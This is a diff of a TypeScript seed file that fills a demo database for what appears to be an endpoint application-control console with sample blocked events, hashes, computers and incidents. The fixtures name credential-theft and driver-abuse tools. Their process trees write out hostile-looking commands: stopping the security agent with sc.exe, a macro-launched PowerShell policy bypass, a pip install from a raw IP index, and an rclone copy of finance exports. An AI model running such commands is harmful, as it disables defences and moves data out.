+    cls: 'notFound',
+    severity: 'High',
+    detections: 0,
+    engines: 0,
+    firstSeen: '2026-11-14T10:03:41Z',
+    launch: 'macro',
+    event: 'ScriptBlocked',
+    policy: 'Custom Scripts',
+    incident: true,
+  },
+  {
+    key: 'invoiceNov',
+    sha256: '50f78dbac01e6b9be27e0c1c00eab83352f571baa5fcd70e7a61aa1a15b1230b',
+    md5: '691d81a648282b835ceb4a65fd215348',
+    sha1: 'c7b780ddf6eb269db15ef68dfa6547eada90e37e',
+    fileName: 'Invoice_Nov2026.pdf.exe',
+    path: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8KQ2ZP4W\\Invoice_Nov2026.pdf.exe',
+    publisher: null,
+    cls: 'malicious',
+    severity: 'Critical',
+    detections: 63,
+    engines: 72,
+    firstSeen: '2026-11-13T16:05:12Z',
+    launch: 'outlook',
+    event: 'ExecutionBlocked',
+    policy: 'Default Enclave',
+    incident: true,
+  },
+  {
+    key: 'rtcore',
+    sha256: '45d6128bfda3962bce5ee6f3ca816e8fe65763e88bc78001902be9332e6df302',
+    md5: '219b08fd2d2887513844a1019a64b8c7',
+    sha1: 'b1664fda7dd32f98261ca24a59b90a56f5203b68',
+    fileName: 'RTCore64.sys',
+    path: 'C:\\Windows\\Temp\\RTCore64.sys',
+    publisher: 'Micro-Star International CO., LTD.',
+    cls: 'malicious',
+    severity: 'Critical',
+    detections: 41,
+    engines: 72,
+    firstSeen: '2026-11-09T02:14:27Z',
+    launch: 'driver',
+    event: 'ExecutionBlocked',
+    policy: 'Driver Control',
+    incident: true,
+  },
+  {
+    key: 'updateOffice',
+    sha256: 'cf580490fec2a32243bd5664aa51c6eb7daf9cbb7c3e45ebd7000652754676dc',
+    md5: 'e41dd3ac008ee5613ebea20108de2175',
+    sha1: 'b85e11c7beab3467817a368bf095c628fadbd1c8',
+    fileName: 'Update-Office.ps1',
+    path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\Update-Office.ps1',
+    publisher: null,
+    cls: 'malicious',
+    severity: 'Critical',
+    detections: 36,
+    engines: 72,
+    firstSeen: '2026-11-06T18:44:09Z',
+    launch: 'macro',
+    event: 'ScriptBlocked',
+    policy: 'Custom Scripts',
+    incident: true,
+  },
+  {
+    key: 'mimikatz',
+    sha256: 'f79120505932db8664767a6d21b91498415c851df87f1f04f40fe727c1688248',
+    md5: 'bbc31a0a4089090963e6ace59719547e',
+    sha1: '971c766e652430745b7e5c0bcb4705a411a7e7e5',
+    fileName: 'mimikatz.exe',
+    path: 'C:\\Users\\Public\\Documents\\mimikatz.exe',
+    publisher: null,
+    cls: 'malicious',
+    severity: 'Critical',
+    detections: 66,
+    engines: 72,
+    firstSeen: '2026-10-30T23:51:38Z',
+    launch: 'explorer',
+    event: 'ExecutionBlocked',
+    policy: 'Default Enclave',
+    incident: true,
+  },
+  {
+    key: 'svchosts',
+    sha256: '3a25b9d31cb53bddd5881a9baa51f843edf6947605ec872cb510e526f492a525',
+    md5: '68b2bb9487b1733a1f480a49a034ab5a',
+    sha1: 'ae3e5e9396a9c5d45dba2a256717591c10abb53d',
+    fileName: 'svchosts.exe',
+    path: 'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\svchosts.exe',
+    publisher: null,
+    cls: 'malicious',
+    severity: 'Critical',
+    detections: 60,
+    engines: 72,
+    firstSeen: '2026-10-21T04:12:55Z',
+    launch: 'task',
+    event: 'ExecutionBlocked',
+    policy: 'Default Enclave',
+    incident: true,
+  },
+  {
+    key: 'winlogonHelper',
+    sha256: '0cc537aa0955e9a48b64b103bd6b02ba96b2f345eb7c56c2e34f33978364ac3f',
+    md5: '83d7dc863216f2ae4a34c799823bd4ae',
+    sha1: 'feaf66349b52ae601d99f1e9e70625a5d59c37f6',
+    fileName: 'winlogon_helper.dll',
+    path: 'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\winlogon_helper.dll',
+    publisher: null,
+    cls: 'malicious',
+    severity: 'Critical',
+    detections: 52,
+    engines: 72,
+    firstSeen: '2026-10-21T04:13:02Z',
+    launch: 'rundll',
+    event: 'DllLoadBlocked',
+    policy: 'Code Load',
+    incident: true,
+  },
+  {
+    key: 'kintai',
+    sha256: '4e07408562bedb8b60ce05c1decfe3ad16b72230967de01f640b7e4729b49fce',
+    md5: '282b5b0967ea931ce9d6be6b895c24e6',
+    sha1: 'a99a1b3d4adef83cdf03b42bd301ddbc3dc1e18b',
+    fileName: '勤怠管理.exe',
+    path: 'C:\\Program Files (x86)\\KintaiSystem\\勤怠管理.exe',
+    publisher: 'さくらソフト株式会社',
+    cls: 'notFound',
+    severity: 'Low',
+    detections: 0,
+    engines: 0,
+    firstSeen: '2024-04-01T00:12:33Z',
+    product: '勤怠管理.exe',
+    launch: 'explorer',
+    event: 'ExecutionAllowed',
+    policy: 'Default Enclave',
+    tree: false,
+  },
+  {
+    key: 'powershell',
+    sha256: SYS.powershell!.sha256,
+    fileName: 'powershell.exe',
+    path: SYS.powershell!.path,
+    publisher: 'Microsoft Windows',
+    cls: 'harmless',
+    severity: 'Info',
+    detections: 0,
+    engines: 72,
+    firstSeen: '2023-10-10T17:02:11Z',
+    launch: 'explorer',
+    event: 'ExecutionAllowed',
+    policy: 'Trusted Publishers',
+    tree: false,
+  },
+  {
+    key: 'sc',
+    sha256: '4c8eb694813a30e2c3cf172dfe9b5f579a2b4fee5d65c730ba4e53f7eb35b32e',
+    fileName: 'sc.exe',
+    path: 'C:\\Windows\\System32\\sc.exe',
+    publisher: 'Microsoft Windows',
+    cls: 'harmless',
+    severity: 'Critical',
+    detections: 0,
+    engines: 72,
+    firstSeen: '2023-10-10T17:02:11Z',
+    launch: 'tamper',
+    event: 'TamperAttempt',
+    policy: 'Agent Tamper Protection',
+    incident: true,
+  },
 ];
 
 /** System binaries of the trees that are not named above, as harmless hashes of their own. */
@@ -487,18 +1672,150 @@ const EXAMPLE_EVENTS: Array<{
   path?: string;
   tree: 'default' | 'none';
 }> = [
-  { id: 7734460, at: '2026-11-19T08:41:17Z', type: 'ExecutionBlocked', action: 'blocked', severity: 'Critical', computerId: 40001, user: 'FABRIKAM\\mwebb', hash: 'invoice', policy: 'Default Enclave', tree: 'default' },
-  { id: 7734453, at: '2026-11-19T08:02:44Z', type: 'ExecutionAllowed', action: 'allowed', severity: 'Info', computerId: 40001, user: 'FABRIKAM\\mwebb', hash: 'excel', policy: 'Trusted Publishers', tree: 'none' },
-  { id: 7734446, at: '2026-11-19T07:26:10Z', type: 'RemovableMediaBlocked', action: 'blocked', severity: 'Medium', computerId: 40006, user: 'FABRIKAM\\det-kiosk03', hash: 'portable', policy: 'Removable Media', tree: 'default' },
-  { id: 7734439, at: '2026-11-19T06:55:39Z', type: 'ExecutionBlocked', action: 'audited', severity: 'Low', computerId: 40014, user: 'FABRIKAM\\hkowalski', hash: 'zoom', policy: 'Default Enclave', tree: 'default' },
-  { id: 7734432, at: '2026-11-18T22:14:50Z', type: 'ExecutionBlocked', action: 'blocked', severity: 'High', computerId: 40003, user: 'FABRIKAM\\svc-backup', hash: 'rclone', policy: 'Default Enclave', tree: 'default' },
-  { id: 7734425, at: '2026-11-18T15:12:09Z', type: 'DllLoadBlocked', action: 'blocked', severity: 'Critical', computerId: 40002, user: 'FABRIKAM\\cdubois', hash: 'updateHelper', policy: 'Code Load', tree: 'default' },
-  { id: 7734418, at: '2026-11-17T14:20:05Z', type: 'PolicyViolation', action: 'blocked', severity: 'Medium', computerId: 40013, user: 'FABRIKAM\\acheng', hash: 'qbw', policy: 'Finance Global Policy', tree: 'none' },
-  { id: 7734411, at: '2026-11-17T09:47:23Z', type: 'NetworkBlocked', action: 'blocked', severity: 'High', computerId: 40005, user: 'FABRIKAM\\lnguyen', hash: 'python', policy: 'Netlock Policy', tree: 'default' },
-  { id: 7734404, at: '2026-11-16T12:31:56Z', type: 'ExecutionBlocked', action: 'blocked', severity: 'Critical', computerId: 40001, user: 'FABRIKAM\\mwebb', hash: 'chromeUpdater', policy: 'Default Enclave', tree: 'default' },
-  { id: 7734397, at: '2026-11-15T20:09:51Z', type: 'ExecutionBlocked', action: 'blocked', severity: 'High', computerId: 40002, user: 'FABRIKAM\\cdubois', hash: 'anydesk', policy: null, tree: 'none' },
-  { id: 7734390, at: '2026-11-14T10:03:41Z', type: 'ScriptBlocked', action: 'audited', severity: 'High', computerId: 40004, user: 'FABRIKAM\\jpark', hash: 'syncShare', policy: 'Custom Scripts', tree: 'default' },
-  { id: 7734383, at: '2026-11-11T19:45:12Z', type: 'TamperAttempt', action: 'blocked', severity: 'Critical', computerId: 40006, user: 'FABRIKAM\\det-kiosk03', hash: 'sc', policy: 'Agent Tamper Protection', tree: 'default' },
+  {
+    id: 7734460,
+    at: '2026-11-19T08:41:17Z',
+    type: 'ExecutionBlocked',
+    action: 'blocked',
+    severity: 'Critical',
+    computerId: 40001,
+    user: 'FABRIKAM\\mwebb',
+    hash: 'invoice',
+    policy: 'Default Enclave',
+    tree: 'default',
+  },
+  {
+    id: 7734453,
+    at: '2026-11-19T08:02:44Z',
+    type: 'ExecutionAllowed',
+    action: 'allowed',
+    severity: 'Info',
+    computerId: 40001,
+    user: 'FABRIKAM\\mwebb',
+    hash: 'excel',
+    policy: 'Trusted Publishers',
+    tree: 'none',
+  },
+  {
+    id: 7734446,
+    at: '2026-11-19T07:26:10Z',
+    type: 'RemovableMediaBlocked',
+    action: 'blocked',
+    severity: 'Medium',
+    computerId: 40006,
+    user: 'FABRIKAM\\det-kiosk03',
+    hash: 'portable',
+    policy: 'Removable Media',
+    tree: 'default',
+  },
+  {
+    id: 7734439,
+    at: '2026-11-19T06:55:39Z',
+    type: 'ExecutionBlocked',
+    action: 'audited',
+    severity: 'Low',
+    computerId: 40014,
+    user: 'FABRIKAM\\hkowalski',
+    hash: 'zoom',
+    policy: 'Default Enclave',
+    tree: 'default',
+  },
+  {
+    id: 7734432,
+    at: '2026-11-18T22:14:50Z',
+    type: 'ExecutionBlocked',
+    action: 'blocked',
+    severity: 'High',
+    computerId: 40003,
+    user: 'FABRIKAM\\svc-backup',
+    hash: 'rclone',
+    policy: 'Default Enclave',
+    tree: 'default',
+  },
+  {
+    id: 7734425,
+    at: '2026-11-18T15:12:09Z',
+    type: 'DllLoadBlocked',
+    action: 'blocked',
+    severity: 'Critical',
+    computerId: 40002,
+    user: 'FABRIKAM\\cdubois',
+    hash: 'updateHelper',
+    policy: 'Code Load',
+    tree: 'default',
+  },
+  {
+    id: 7734418,
+    at: '2026-11-17T14:20:05Z',
+    type: 'PolicyViolation',
+    action: 'blocked',
+    severity: 'Medium',
+    computerId: 40013,
+    user: 'FABRIKAM\\acheng',
+    hash: 'qbw',
+    policy: 'Finance Global Policy',
+    tree: 'none',
+  },
+  {
+    id: 7734411,
+    at: '2026-11-17T09:47:23Z',
+    type: 'NetworkBlocked',
+    action: 'blocked',
+    severity: 'High',
+    computerId: 40005,
+    user: 'FABRIKAM\\lnguyen',
+    hash: 'python',
+    policy: 'Netlock Policy',
+    tree: 'default',
+  },
+  {
+    id: 7734404,
+    at: '2026-11-16T12:31:56Z',
+    type: 'ExecutionBlocked',
+    action: 'blocked',
+    severity: 'Critical',
+    computerId: 40001,
+    user: 'FABRIKAM\\mwebb',
+    hash: 'chromeUpdater',
+    policy: 'Default Enclave',
+    tree: 'default',
+  },
+  {
+    id: 7734397,
+    at: '2026-11-15T20:09:51Z',
+    type: 'ExecutionBlocked',
+    action: 'blocked',
+    severity: 'High',
+    computerId: 40002,
+    user: 'FABRIKAM\\cdubois',
+    hash: 'anydesk',
+    policy: null,
+    tree: 'none',
+  },
+  {
+    id: 7734390,
+    at: '2026-11-14T10:03:41Z',
+    type: 'ScriptBlocked',
+    action: 'audited',
+    severity: 'High',
+    computerId: 40004,
+    user: 'FABRIKAM\\jpark',
+    hash: 'syncShare',
+    policy: 'Custom Scripts',
+    tree: 'default',
+  },
+  {
+    id: 7734383,
+    at: '2026-11-11T19:45:12Z',
+    type: 'TamperAttempt',
+    action: 'blocked',
+    severity: 'Critical',
+    computerId: 40006,
+    user: 'FABRIKAM\\det-kiosk03',
+    hash: 'sc',
+    policy: 'Agent Tamper Protection',
+    tree: 'default',
+  },
 ];
 
 /** The process trees of the example events, exactly as the contract shows them. */
@@ -508,39 +1825,90 @@ function exampleTrees(): Record<number, ProcessNode> {
     p: Proc | { name: string; path: string; sha256: string; publisher: string | null },
     commandLine: string,
     children: ProcessNode[] = [],
-  ): ProcessNode => ({ processId, processName: p.name, filePath: p.path, sha256: p.sha256, publisher: p.publisher, commandLine, children });
+  ): ProcessNode => ({
+    processId,
+    processName: p.name,
+    filePath: p.path,
+    sha256: p.sha256,
+    publisher: p.publisher,
+    commandLine,
+    children,
+  });
   const file = (key: string, user: string) => {
     const h = NAMED.find((x) => x.key === key)!;
-    return { name: h.fileName, path: h.path.replace('{user}', user), sha256: h.sha256, publisher: h.publisher };
+    return {
+      name: h.fileName,
+      path: h.path.replace('{user}', user),
+      sha256: h.sha256,
+      publisher: h.publisher,
+    };
   };
-  const explorer = (pid: number, children: ProcessNode[]) => n(pid, SYS.explorer!, 'C:\\Windows\\Explorer.EXE', children);
+  const explorer = (pid: number, children: ProcessNode[]) =>
+    n(pid, SYS.explorer!, 'C:\\Windows\\Explorer.EXE', children);
   const code = { ...SYS.code!, path: SYS.code!.path.replace('{user}', 'lnguyen') };
   return {
-    7734460: explorer(6124, [n(11872, file('invoice', 'mwebb'), '"C:\\Users\\mwebb\\Downloads\\invoice_viewer.exe"')]),
+    7734460: explorer(6124, [
+      n(11872, file('invoice', 'mwebb'), '"C:\\Users\\mwebb\\Downloads\\invoice_viewer.exe"'),
+    ]),
     7734446: explorer(4388, [n(7712, file('portable', ''), '"E:\\PortableApps\\PortableApps.exe"')]),
     7734439: explorer(5260, [
-      n(13044, file('zoom', 'hkowalski'), '"C:\\Users\\hkowalski\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" --action=join --confno=84512290371'),
+      n(
+        13044,
+        file('zoom', 'hkowalski'),
+        '"C:\\Users\\hkowalski\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" --action=join --confno=84512290371',
+      ),
     ]),
     7734432: n(1460, SYS.svchost!, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', [
       n(9328, SYS.cmd!, 'C:\\Windows\\system32\\cmd.exe /c C:\\ProgramData\\sync\\run_sync.cmd', [
-        n(9412, file('rclone', ''), 'C:\\ProgramData\\sync\\rclone.exe copy D:\\Finance\\Exports fabsync:fab-backup --transfers 8'),
+        n(
+          9412,
+          file('rclone', ''),
+          'C:\\ProgramData\\sync\\rclone.exe copy D:\\Finance\\Exports fabsync:fab-backup --transfers 8',
+        ),
       ]),
     ]),
     7734425: explorer(7020, [
-      n(12556, SYS.rundll32!, 'C:\\Windows\\System32\\rundll32.exe C:\\Users\\cdubois\\AppData\\Local\\Temp\\update_helper.dll,DllRegisterServer'),
+      n(
+        12556,
+        SYS.rundll32!,
+        'C:\\Windows\\System32\\rundll32.exe C:\\Users\\cdubois\\AppData\\Local\\Temp\\update_helper.dll,DllRegisterServer',
+      ),
     ]),
     7734411: explorer(3904, [
       n(8816, code, '"C:\\Users\\lnguyen\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"', [
-        n(15220, file('python', 'lnguyen'), 'C:\\Users\\lnguyen\\AppData\\Local\\Programs\\Python\\Python312\\python.exe -m pip install --index-url http://203.0.113.50/simple fab-etl-tools'),
+        n(
+          15220,
+          file('python', 'lnguyen'),
+          'C:\\Users\\lnguyen\\AppData\\Local\\Programs\\Python\\Python312\\python.exe -m pip install --index-url http://203.0.113.50/simple fab-etl-tools',
+        ),
       ]),
     ]),
-    7734404: explorer(6124, [n(10340, file('chromeUpdater', 'mwebb'), '"C:\\Users\\mwebb\\AppData\\Roaming\\chrome_updater.exe" /silent')]),
+    7734404: explorer(6124, [
+      n(
+        10340,
+        file('chromeUpdater', 'mwebb'),
+        '"C:\\Users\\mwebb\\AppData\\Roaming\\chrome_updater.exe" /silent',
+      ),
+    ]),
     7734390: explorer(5588, [
-      n(9964, SYS.excel!, '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\jpark\\Documents\\BOM_costing_Q4.xlsm"', [
-        n(14408, SYS.powershell!, 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\jpark\\AppData\\Local\\Temp\\sync_share.ps1'),
+      n(
+        9964,
+        SYS.excel!,
+        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\jpark\\Documents\\BOM_costing_Q4.xlsm"',
+        [
+          n(
+            14408,
+            SYS.powershell!,
+            'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\jpark\\AppData\\Local\\Temp\\sync_share.ps1',
+          ),
+        ],
+      ),
+    ]),
+    7734383: explorer(2816, [
+      n(6032, SYS.cmd!, '"C:\\Windows\\system32\\cmd.exe"', [
+        n(6140, file('sc', ''), 'sc.exe stop EndpointAgent'),
       ]),
     ]),
-    7734383: explorer(2816, [n(6032, SYS.cmd!, '"C:\\Windows\\system32\\cmd.exe"', [n(6140, file('sc', ''), 'sc.exe stop EndpointAgent')])]),
   };
 }
 
@@ -555,13 +1923,40 @@ const NAMED_COMPUTERS: Array<{
   mac: string;
   serial: string;
 }> = [
-  { id: 40001, domain: 'FABRIKAM', user: 'mwebb', cpu: 'Intel Core i7-1365U', memoryMb: 16384, installDate: '2025-03-14T09:00:00Z', mac: '3C:52:82:1A:7F:04', serial: 'PF3X7K2A' },
+  {
+    id: 40001,
+    domain: 'FABRIKAM',
+    user: 'mwebb',
+    cpu: 'Intel Core i7-1365U',
+    memoryMb: 16384,
+    installDate: '2025-03-14T09:00:00Z',
+    mac: '3C:52:82:1A:7F:04',
+    serial: 'PF3X7K2A',
+  },
   { id: 40002, domain: 'FABRIKAM', user: 'cdubois', mac: '3C:52:82:1A:7F:11', serial: 'PF3X7K3B' },
   { id: 40003, domain: 'FABRIKAM', user: 'rmenon', mac: '3C:52:82:1A:80:2C', serial: 'PF3X7L0Q' },
   { id: 40004, domain: 'FABRIKAM', user: 'jpark', mac: 'F4:A4:75:0C:21:7E', serial: '5CG3281QX2' },
-  { id: 40005, domain: 'FABRIKAM', user: 'lnguyen', cpu: 'Intel Core i5-1345U', memoryMb: 16384, installDate: '2025-06-02T13:41:20Z', mac: 'F4:A4:75:0C:22:91', serial: '5CG3281QZ7' },
+  {
+    id: 40005,
+    domain: 'FABRIKAM',
+    user: 'lnguyen',
+    cpu: 'Intel Core i5-1345U',
+    memoryMb: 16384,
+    installDate: '2025-06-02T13:41:20Z',
+    mac: 'F4:A4:75:0C:22:91',
+    serial: '5CG3281QZ7',
+  },
   { id: 40006, domain: 'FABRIKAM', user: 'det-kiosk03', mac: '00:1B:21:7C:4E:03', serial: 'MJ0DK03A' },
-  { id: 40007, domain: 'TOKYOSEIMITSU', user: 't.suzuki', cpu: 'Intel Core i7-1355U', memoryMb: 32768, installDate: '2024-04-01T00:05:12Z', mac: '08:92:04:6E:B3:5D', serial: 'MJ0K8TQ2' },
+  {
+    id: 40007,
+    domain: 'TOKYOSEIMITSU',
+    user: 't.suzuki',
+    cpu: 'Intel Core i7-1355U',
+    memoryMb: 32768,
+    installDate: '2024-04-01T00:05:12Z',
+    mac: '08:92:04:6E:B3:5D',
+    serial: 'MJ0K8TQ2',
+  },
   { id: 40008, domain: 'TOKYOSEIMITSU', user: 'k.tanaka', mac: '08:92:04:6E:C1:07', serial: 'MJ0K9AA4' },
   { id: 40009, domain: 'TOKYOSEIMITSU', user: 'line-t12', mac: '00:1B:21:9A:10:12', serial: 'MJ0LT12C' },
   { id: 40010, domain: 'WOODGROVE', user: 'teller118', mac: '64:00:6A:2B:11:18', serial: 'CND2118WG' },
@@ -587,15 +1982,9 @@ async function bulkLoad(db: Database, table: string, load: () => Promise<void>):
   );
   for (const fk of fks) await db.exec(`alter table ${table} drop constraint ${fk.name}`);
   for (const ix of indexes) await db.exec(`drop index ${ix.name}`);
-  let t = Date.now();
   await load();
-  if (process.env.SEED_PROFILE) console.log('    load', Date.now() - t);
-  t = Date.now();
   for (const ix of indexes) await db.exec(ix.def);
-  if (process.env.SEED_PROFILE) console.log('    indexes', Date.now() - t);
-  t = Date.now();
   for (const fk of fks) await db.exec(`alter table ${table} add constraint ${fk.name} ${fk.def}`);
-  if (process.env.SEED_PROFILE) console.log('    fks', Date.now() - t);
 }
 
 interface ComputerRow {
@@ -623,11 +2012,6 @@ export const seedInspection: SeedModule = async (ctx: SeedContext) => {
   const now = ctx.now.getTime();
   const shift = now - EXAMPLE_TIME;
   const at = (iso: string) => new Date(Date.parse(iso) + shift);
-  let tt = Date.now();
-  const lap = (s: string) => {
-    if (process.env.SEED_PROFILE) console.log('   ', s, Date.now() - tt);
-    tt = Date.now();
-  };
 
   await seedNamedComputers(db, at);
   const computers = await db.query<ComputerRow>(
@@ -638,10 +2022,8 @@ export const seedInspection: SeedModule = async (ctx: SeedContext) => {
   );
   const byId = new Map(computers.map((c) => [c.id, c]));
 
-  lap('named computers');
   const catalogue = buildCatalogue(ctx, at);
   const scripted = scriptedEvents(ctx, catalogue, computers, byId, at);
-  lap('catalogue');
   await insertRows(
     db,
     'file_hashes',
@@ -674,31 +2056,32 @@ export const seedInspection: SeedModule = async (ctx: SeedContext) => {
       h.firstSeen,
     ]),
   );
-  await bulkLoad(db, 'event_variants', () => insertRows(
-    db,
-    'event_variants',
-    [
-      ['id', 'int'],
-      ['hash_id', 'int'],
-      ['event_type', 'text'],
-      ['file_name', 'text'],
-      ['file_path', 'text'],
-      ['policy_name', 'text'],
-      ['process_tree', 'jsonb'],
-    ],
-    catalogue.variants.map((v) => [
-      v.id,
-      v.hashId,
-      v.event,
-      v.fileName,
-      v.filePath,
-      v.policy,
-      v.tree === null ? null : JSON.stringify(v.tree),
-    ]),
-    2000,
-  ));
+  await bulkLoad(db, 'event_variants', () =>
+    insertRows(
+      db,
+      'event_variants',
+      [
+        ['id', 'int'],
+        ['hash_id', 'int'],
+        ['event_type', 'text'],
+        ['file_name', 'text'],
+        ['file_path', 'text'],
+        ['policy_name', 'text'],
+        ['process_tree', 'jsonb'],
+      ],
+      catalogue.variants.map((v) => [
+        v.id,
+        v.hashId,
+        v.event,
+        v.fileName,
+        v.filePath,
+        v.policy,
+        v.tree === null ? null : JSON.stringify(v.tree),
+      ]),
+      2000,
+    ),
+  );
 
-  lap('insert catalogue');
   await bulkLoad(db, 'events', async () => {
     await insertRows(
       db,
@@ -722,18 +2105,13 @@ export const seedInspection: SeedModule = async (ctx: SeedContext) => {
     );
     await poolEvents(db, ctx, catalogue, Math.max(0, ctx.sizes.events - scripted.length));
   });
-  lap('events');
   await aggregate(db);
-  lap('aggregate');
 
   await seedComputerArea(ctx, computers, at);
-  lap('computer area');
   await seedAuditLogs(ctx, computers, at);
-  lap('audit');
   // The visibility map lets the lists count on the indexes alone (index-only scans); the other
   // tables are analyzed with the rest of the seed.
   await db.exec('vacuum analyze events');
-  lap('vacuum');
 };
 
 async function seedNamedComputers(db: Database, at: (iso: string) => Date): Promise<void> {
@@ -817,13 +2195,27 @@ function buildCatalogue(ctx: SeedContext, at: (iso: string) => Date): Catalogue 
     launch === 'driver' || launch === 'service' ? 2 : launch === 'task' && !path.includes('{user}') ? 1 : 0;
   const addVariant = (
     hash: HashRow,
-    p: { event: EventType; launch: Launch; policy: string | null; path: string; weight: number; ja: boolean; tree?: boolean; exact?: boolean },
+    p: {
+      event: EventType;
+      launch: Launch;
+      policy: string | null;
+      path: string;
+      weight: number;
+      ja: boolean;
+      tree?: boolean;
+      exact?: boolean;
+    },
     sev: { blocked: Severity; allowed: Severity },
   ): VariantRow => {
     const tree =
       p.tree === false || rng.chance(0.18)
         ? null
-        : buildTree(rng, p.launch, { name: hash.fileName, path: p.path, sha256: hash.sha256, publisher: hash.publisher });
+        : buildTree(rng, p.launch, {
+            name: hash.fileName,
+            path: p.path,
+            sha256: hash.sha256,
+            publisher: hash.publisher,
+          });
     const v: VariantRow = {
       id: variants.length + 1,
       hashId: hash.id,
@@ -896,7 +2288,15 @@ function buildCatalogue(ctx: SeedContext, at: (iso: string) => Date): Catalogue 
     });
     addVariant(
       hash,
-      { event, launch: 'explorer', policy: 'Trusted Publishers', path: p.path, weight, ja: false, tree: false },
+      {
+        event,
+        launch: 'explorer',
+        policy: 'Trusted Publishers',
+        path: p.path,
+        weight,
+        ja: false,
+        tree: false,
+      },
       severityOf(rng, 'harmless', event),
     );
   }
@@ -982,25 +2382,150 @@ interface Incident {
 
 /** Incidents behind the examples: the same files on the same computers, around the example times. */
 const INCIDENTS: Incident[] = [
-  { hash: 'invoice', computers: [[40001, 60], [40002, 38], [40013, 29]], others: { company: 1001, computers: 1, each: 14, mode: 'notDiscovery' }, from: '2026-11-02T08:14:09Z', to: '2026-11-19T07:58:31Z' },
-  { hash: 'rclone', computers: [[40003, 190]], others: { company: 1001, computers: 2, each: 27, mode: 'notDiscovery' }, from: '2026-10-27T21:48:02Z', to: '2026-11-18T21:59:50Z', userKind: 1 },
-  { hash: 'zoom', computers: [[40014, 40], [40004, 30]], others: { company: 1001, computers: 12, each: 8 }, from: '2026-11-02T13:58:07Z', to: '2026-11-19T06:40:12Z' },
-  { hash: 'updateHelper', computers: [[40002, 60]], others: { company: 1001, computers: 1, each: 26, mode: 'notDiscovery' }, from: '2026-11-12T10:31:44Z', to: '2026-11-18T14:58:31Z' },
-  { hash: 'anydesk', computers: [[40004, 8], [40014, 9], [40002, 4]], others: { company: 1001, computers: 8, each: 5 }, from: '2026-11-02T07:41:27Z', to: '2026-11-18T13:05:44Z' },
-  { hash: 'qbw', computers: [[40013, 10], [40001, 8], [40002, 6], [40003, 5]], others: { company: 1001, computers: 4, each: 2 }, from: '2026-11-10T08:31:50Z', to: '2026-11-17T13:55:41Z' },
-  { hash: 'python', computers: [[40005, 13], [40004, 8], [40014, 4]], from: '2026-11-05T15:40:22Z', to: '2026-11-17T09:31:02Z' },
-  { hash: 'chromeUpdater', computers: [[40001, 14], [40013, 6]], from: '2026-11-16T11:58:03Z', to: '2026-11-16T12:29:40Z' },
-  { hash: 'portable', computers: [[40006, 6]], others: { company: 1001, computers: 3, each: 2 }, from: '2026-11-04T09:12:37Z', to: '2026-11-19T07:10:55Z' },
+  {
+    hash: 'invoice',
+    computers: [
+      [40001, 60],
+      [40002, 38],
+      [40013, 29],
+    ],
+    others: { company: 1001, computers: 1, each: 14, mode: 'notDiscovery' },
+    from: '2026-11-02T08:14:09Z',
+    to: '2026-11-19T07:58:31Z',
+  },
+  {
+    hash: 'rclone',
+    computers: [[40003, 190]],
+    others: { company: 1001, computers: 2, each: 27, mode: 'notDiscovery' },
+    from: '2026-10-27T21:48:02Z',
+    to: '2026-11-18T21:59:50Z',
+    userKind: 1,
+  },
+  {
+    hash: 'zoom',
+    computers: [
+      [40014, 40],
+      [40004, 30],
+    ],
+    others: { company: 1001, computers: 12, each: 8 },
+    from: '2026-11-02T13:58:07Z',
+    to: '2026-11-19T06:40:12Z',
+  },
+  {
+    hash: 'updateHelper',
+    computers: [[40002, 60]],
+    others: { company: 1001, computers: 1, each: 26, mode: 'notDiscovery' },
+    from: '2026-11-12T10:31:44Z',
+    to: '2026-11-18T14:58:31Z',
+  },
+  {
+    hash: 'anydesk',
+    computers: [
+      [40004, 8],
+      [40014, 9],
+      [40002, 4],
+    ],
+    others: { company: 1001, computers: 8, each: 5 },
+    from: '2026-11-02T07:41:27Z',
+    to: '2026-11-18T13:05:44Z',
+  },
+  {
+    hash: 'qbw',
+    computers: [
+      [40013, 10],
+      [40001, 8],
+      [40002, 6],
+      [40003, 5],
+    ],
+    others: { company: 1001, computers: 4, each: 2 },
+    from: '2026-11-10T08:31:50Z',
+    to: '2026-11-17T13:55:41Z',
+  },
+  {
+    hash: 'python',
+    computers: [
+      [40005, 13],
+      [40004, 8],
+      [40014, 4],
+    ],
+    from: '2026-11-05T15:40:22Z',
+    to: '2026-11-17T09:31:02Z',
+  },
+  {
+    hash: 'chromeUpdater',
+    computers: [
+      [40001, 14],
+      [40013, 6],
+    ],
+    from: '2026-11-16T11:58:03Z',
+    to: '2026-11-16T12:29:40Z',
+  },
+  {
+    hash: 'portable',
+    computers: [[40006, 6]],
+    others: { company: 1001, computers: 3, each: 2 },
+    from: '2026-11-04T09:12:37Z',
+    to: '2026-11-19T07:10:55Z',
+  },
   { hash: 'syncShare', computers: [[40004, 8]], from: '2026-11-14T10:03:41Z', to: '2026-11-14T10:41:08Z' },
   { hash: 'sc', computers: [[40006, 2]], from: '2026-11-11T19:44:58Z', to: '2026-11-11T19:45:05Z' },
-  { hash: 'invoiceNov', computers: [], others: { company: 1001, computers: 1, each: 3, mode: 'notDiscovery' }, from: '2026-11-13T16:05:12Z', to: '2026-11-13T16:05:40Z' },
-  { hash: 'rtcore', computers: [], others: { company: 1001, computers: 1, each: 2, mode: 'notDiscovery' }, from: '2026-11-09T02:14:27Z', to: '2026-11-09T02:14:31Z', userKind: 2 },
-  { hash: 'updateOffice', computers: [], others: { company: 1001, computers: 2, each: 3, mode: 'notDiscovery' }, from: '2026-11-06T18:44:09Z', to: '2026-11-07T08:02:16Z' },
-  { hash: 'mimikatz', computers: [], others: { company: 1001, computers: 1, each: 4, mode: 'notDiscovery' }, from: '2026-10-30T23:51:38Z', to: '2026-10-30T23:52:10Z' },
-  { hash: 'svchosts', computers: [], others: { company: 1001, computers: 3, each: 6, mode: 'notDiscovery' }, from: '2026-10-21T04:12:55Z', to: '2026-10-29T06:30:19Z' },
